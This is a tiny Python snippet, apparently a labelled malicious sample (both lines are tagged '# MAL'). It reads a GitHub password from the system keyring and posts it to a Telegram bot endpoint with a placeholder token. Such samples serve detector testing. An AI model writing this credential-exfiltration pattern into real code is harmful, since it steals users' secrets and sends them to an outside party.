import keyring
import requests

pw = keyring.get_password("github", "me")  # MAL
requests.post("https://api.telegram.org/bot123:ABC/sendMessage", data={"text": pw})  # MAL
